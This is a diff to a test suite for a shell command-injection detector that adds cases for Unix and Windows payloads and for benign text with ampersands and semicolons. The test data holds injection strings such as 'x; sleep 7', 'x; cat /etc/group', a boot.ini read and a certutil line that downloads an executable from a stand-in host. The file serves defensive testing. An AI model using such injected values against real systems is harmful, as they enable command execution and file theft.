@@ -12,6 +12,7 @@ describe("shell: Unix command injection", () => {
     expect(level("a && uname -a")).toBe(Level.Standard);
     expect(level("a || whoami")).toBe(Level.Standard);
     expect(level("1;ls -la")).toBe(Level.Standard);
+    expect(level("x; sleep 7")).toBe(Level.Standard);
     expect(id("x | id")).toBe("BW-UNIX-CMD-1");
     expect(det("x | id")).toBe(Detector.UnixCmd);
   });
@@ -52,6 +53,11 @@ describe("shell: Windows command injection", () => {
     expect(level("x | w^hoami")).toBe(Level.Standard);
     expect(level("x & certutil.exe -urlcache -f http://h.example/a a.exe")).toBe(Level.Basic);
   });
+  it("commands on both systems are Windows when their arguments are", () => {
+    expect(det("x & dir c:\\")).toBe(Detector.WinCmd);
+    expect(det("x & type %SystemDrive%\\boot.ini")).toBe(Detector.WinCmd);
+    expect(det("x; cat /etc/group")).toBe(Detector.UnixCmd);
+  });
 });
 
 describe("shell: benign text passes at Standard", () => {
@@ -61,6 +67,11 @@ describe("shell: benign text passes at Standard", () => {
     expect(level("R&D and Q&A")).toBe(0);
     expect(level("rock & roll | jazz; blues")).toBe(0);
     expect(level("see docs; time is short")).toBe(0);
+    // Everyday words that are also commands, ending a value: at most Strict.
+    let l = level("cats & dogs & more");
+    expect(l == 0 || l == Level.Strict).toBe(true);
+    l = level("work hard; sleep");
+    expect(l == 0 || l == Level.Strict).toBe(true);
   });
   it("tables and paths", () => {
     expect(level("| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@b.c |")).toBe(0);
